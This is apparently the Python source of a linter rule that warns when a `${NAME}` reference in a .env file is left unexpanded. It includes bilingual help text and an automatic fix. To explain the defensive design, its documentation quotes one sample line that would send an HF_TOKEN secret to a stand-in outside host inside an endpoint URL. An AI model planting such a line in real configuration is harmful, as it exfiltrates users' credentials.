"""ENV810: a `${NAME}` in a value that was not filled in."""

from __future__ import annotations

from collections.abc import Iterable

from qtune.core.envpatch import EnvPatch
from qtune.core.table import BY_NAME
from qtune.core.text import Text
from qtune.doctor.facts import EnvEntry, Facts, known
from qtune.doctor.finding import Applicability, Finding, Fix, Severity
from qtune.doctor.rule import Page, Rule
from qtune.doctor.rules.env.words import DOTENV, ON_THIS_MACHINE, ORDER, SHOW
from qtune.doctor.rules.places import called, entry_span
from qtune.doctor.rules.words import joined, prose


def _judge(facts: Facts) -> Iterable[Finding]:
    envfile = known(facts.envfile)
    for entry in envfile.entries if envfile is not None else ():
        assert envfile is not None
        # What other programs make of their own lines is their business.
        if not entry.unexpanded or entry.key not in BY_NAME:
            continue
        names = ", ".join(f"${{{name}}}" for name in dict.fromkeys(entry.unexpanded))
        yield Finding(
            "ENV810",
            Severity.WARNING,
            Text(
                f"{entry.key} ({called(envfile)} line {entry.line}): {names} is not filled in, because it is not set "
                "earlier in this file",
                f"{entry.key}（{called(envfile)} 第 {entry.line} 行）：{names} 没有被替换，因为本文件前面没有设置它",
            ),
            span=entry_span(envfile, entry),
            fix=_fix(entry),
        )


def _fix(entry: EnvEntry) -> Fix:
    if set(entry.unexpanded) == {entry.key}:
        return Fix(
            Text(
                f"Remove the line: a {entry.key} of the environment counts by itself",
                f"删除该行：环境变量 {entry.key} 本来就会生效",
            ),
            Applicability.SAFE,
            patch=EnvPatch(unset=frozenset({entry.key})),
        )
    return Fix(
        Text(f"Write the value itself behind {entry.key}=", f"在 {entry.key}= 后面直接写出值"),
        Applicability.MANUAL,
    )


RULE = Rule(
    "ENV810",
    "reference-not-filled",
    Severity.WARNING,
    Text("A reference in .env is not filled in", ".env 中的引用没有被替换"),
    Page(
        what=prose(
            """
            A value contains `${NAME}`, and there is nothing to put in its place, so the text stands there as
            it is written.
            """,
            "某个值里有 `${NAME}`，但没有可以替换的内容，所以原样保留了这段文字。",
        ),
        why=prose(
            """
            qtune fills `${NAME}` from lines further up in the same file and from a few harmless variables
            (`HOME`, `USER`, `PWD`, `XDG_CACHE_HOME` and their like), not from the whole environment. That is
            on purpose: a cloned project could otherwise bring a `.env` with

            ```
            HF_ENDPOINT=https://elsewhere.example/${HF_TOKEN}
            ```

            and your token would travel in an address.
            """,
            """
            qtune 只用同一文件中靠前的行和少数无害的变量（`HOME`、`USER`、`PWD`、`XDG_CACHE_HOME` 等）替换
            `${NAME}`，不会使用整个环境。这是有意为之：否则克隆来的项目可以自带这样的 `.env`

            ```
            HF_ENDPOINT=https://elsewhere.example/${HF_TOKEN}
            ```

            把你的 Token 放进网址里带走。
            """,
        ),
        detect=ON_THIS_MACHINE,
        mend=joined(
            prose(
                """
                Write the value itself, or set the name on a line above. A default works too:

                ```
                CACHE=/data/cache
                HF_HOME=${CACHE}/huggingface
                HF_HUB_CACHE=${NOT_SET:-/data/hub}
                ```

                A line such as `HF_TOKEN=${HF_TOKEN}` is not needed: just remove it. `$NAME` without braces is
                never replaced, and nothing is between single quotes.
                """,
                """
                直接写出值，或在前面的行里先设置这个名称。也可以给默认值：

                ```
                CACHE=/data/cache
                HF_HOME=${CACHE}/huggingface
                HF_HUB_CACHE=${NOT_SET:-/data/hub}
                ```

                像 `HF_TOKEN=${HF_TOKEN}` 这样的行没有必要，删掉即可。不带花括号的 `$NAME` 不会被替换，单引号
                内的也不会。
                """,
            ),
            ORDER,
        ),
        verify=SHOW,
        sources=(DOTENV,),
    ),
    needs=("envfile",),
    judge=_judge,
)
